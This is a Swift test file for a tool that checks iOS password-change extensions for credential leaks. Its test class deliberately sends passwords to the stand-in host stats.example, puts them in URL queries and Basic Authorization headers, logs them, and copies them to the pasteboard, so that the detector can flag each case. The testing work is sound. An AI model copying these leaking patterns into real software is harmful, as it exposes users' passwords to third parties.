import AuthenticationServices
import CryptoKit
import Rehearsal
import RehearsalExplorer
import TestBench
import Testing
import UIKit

/// Passwords where others read them on the network, and what looks like them.
@Suite(.inverting) struct DisclosedPasswordTests {
  private func violations(_ habit: TellingHabit) -> [Violation] {
    Stage { $0.phone.network.otherHosts = ["stats.example"] }.play(
      .strongPassword, .settle, program: Program { Telling(habit) }
    ).violations
  }

  @Test func `PL-20 a password in an address, or to another host, is told`() {
    for habit in TellingHabit.allCases {
      #expect(violations(habit) == habit.broken, "\(habit)")
    }
  }

  @Test(arguments: TellingHabit.allCases)
  func `a search finds it, and who sends it to its own server alone is exhausted`(habit: TellingHabit) {
    var situation = Situation.usual(.strongPassword, changesTakeEffect: .gracefully)[0]
    situation.phone.network.otherHosts = ["stats.example"]
    var explorer = Explorer([situation], handler: Program { Telling(habit) })
    explorer.budget = 1
    let found = explorer.explore()
    #expect(Set(found.discoveries.map(\.failure)) == Set(habit.broken.map { .rule($0) }))
    if habit.broken.isEmpty { #expect(found.verdict == .exhausted, "\(found.gaps)") }
  }

  @Test func `what goes to somebody else comes to no server, and is told with its host`() {
    let stage = Stage { $0.phone.network.otherHosts = ["stats.example"] }
    let trace = stage.play(.strongPassword, .settle, program: Program { Telling(.countsUpgrades) })
    #expect(trace.messagesSent == ["authorize", "changePassword", "collect"])
    let collected = trace.entries.compactMap { entry -> Message? in
      if case .handler(.sent(let message)) = entry.event, message.name == "collect" { message } else { nil }
    }
    #expect(collected.first?["http.host"] == "stats.example")
    #expect(trace.outcome == .upgraded)
  }
}

/// What somebody tells whom beside what an upgrade needs.
enum TellingHabit: String, CaseIterable {
  /// The old password stands in the address to which the question goes.
  case asksInAddress
  /// A service that counts is told the new one.
  case countsPasswords
  /// A service that knows of leaks is told the whole digest of the new one, in the path of an address.
  case checksDigest
  /// It is told the first five digits of that, which are those of many.
  case checksBeginning
  /// A service is told who it is, with the new one, as a web browser would write it.
  case introducesItself
  /// NSLog is told the new one.
  case logs
  /// A service that counts is told that there was an upgrade.
  case countsUpgrades
  /// Whom it is for stands in the address, and nothing else.
  case namesUserInAddress
  /// NSLog is told whom it is for.
  case logsUser
  /// The new one is copied, for whoever pastes next.
  case copies
  /// It is copied for a minute, and for this phone alone.
  case copiesForMinute

  var broken: [Violation] {
    switch self {
    case .asksInAddress, .countsPasswords, .checksDigest, .introducesItself, .copies: [.disclosedPassword]
    case .logs: [.loggedPassword]
    case .countsUpgrades, .checksBeginning, .namesUserInAddress, .logsUser, .copiesForMinute: []
    }
  }
}

private final class Telling: ASAccountAuthenticationModificationViewController {
  private let habit: TellingHabit

  init(_ habit: TellingHabit) {
    self.habit = habit
    super.init(nibName: nil, bundle: nil)
  }

  required init?(coder: NSCoder) { nil }

  override func changePasswordWithoutUserInteraction(
    for serviceIdentifier: ASCredentialServiceIdentifier, existingCredential: ASPasswordCredential,
    newPassword: String, userInfo: [AnyHashable: Any]? = nil
  ) {
    let user = existingCredential.user
    let asked =
      switch habit {
      case .asksInAddress: "?password=\(existingCredential.password)"
      case .namesUserInAddress: "?user=\(user)"
      default: ""
      }
    Task {
      do {
        let values = ["user": user, "password": existingCredential.password]
        let answer = try await send("https://shiny.example/authorize\(asked)", values)
        let change = ["session": answer["session"] ?? "", "password": newPassword]
        _ = try await send("https://shiny.example/change-password", change)
        count(user, newPassword)
        extensionContext.completeChangePasswordRequest(
          updatedCredential: ASPasswordCredential(user: user, password: newPassword))
      } catch {
        extensionContext.cancelRequest(withError: ASExtensionError(.failed))
      }
    }
  }

  private func count(_ user: String, _ password: String) {
    switch habit {
    case .countsPasswords: collect("upgraded to \(password)")
    case .countsUpgrades: collect("upgraded")
    case .checksDigest: collect("checked", below: "/range/\(digest(of: password))")
    case .checksBeginning: collect("checked", below: "/range/\(digest(of: password).prefix(5))")
    case .introducesItself:
      collect("upgraded", as: "Basic \(Data("\(user):\(password)".utf8).base64EncodedString())")
    case .logs: NSLog("%@ has %@ now", user, password)
    case .logsUser: NSLog("%@ is upgraded", user)
    case .copies: UIPasteboard.general.string = password
    case .copiesForMinute:
      UIPasteboard.general.setItems(
        [[UIPasteboard.typeAutomatic: password]],
        options: [.localOnly: true, .expirationDate: Date().addingTimeInterval(60)])
    case .asksInAddress, .namesUserInAddress: break
    }
  }

  private func digest(of password: String) -> String {
    Insecure.SHA1.hash(data: Data(password.utf8)).map { String(format: "%02X", $0) }.joined()
  }

  private func collect(_ event: String, below path: String = "", as name: String? = nil) {
    Task { try? await send("https://stats.example/collect\(path)", ["event": event], as: name) }
  }

  private func send(
    _ place: String, _ values: [String: String], as name: String? = nil
  ) async throws -> [String: String] {
    guard let url = URL(string: place) else { throw URLError(.badURL) }
    var request = URLRequest(url: url, timeoutInterval: 3)
    request.httpMethod = "POST"
    if let name { request.setValue(name, forHTTPHeaderField: "Authorization") }
    request.httpBody = try JSONEncoder().encode(values)
    let (data, response) = try await URLSession.shared.data(for: request)
    let status = (response as? HTTPURLResponse)?.statusCode ?? 0
    guard 200..<300 ~= status else { throw URLError(.badServerResponse) }
    return (try? JSONDecoder().decode([String: String].self, from: data)) ?? [:]
  }
}
